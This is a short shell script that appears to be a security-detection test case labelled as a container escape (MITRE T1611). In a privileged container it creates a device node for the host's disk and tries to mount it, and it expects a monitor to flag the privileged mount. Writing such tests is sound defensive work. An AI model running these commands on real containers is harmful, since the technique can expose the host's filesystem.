# category: container-escape
# technique: T1611
# art: yes
# expect: privileged-mount-in-container
# opts: --privileged
# desc: a privileged container makes a device node for the host's disk and tries to mount it (the device cgroup refuses)
dev=$(cat /sys/block/*/dev 2>/dev/null | head -1)
mknod /tmp/hostdisk b "${dev%%:*}" "${dev##*:}"
mkdir -p /tmp/host
mount -o ro /tmp/hostdisk /tmp/host
ls /tmp/host
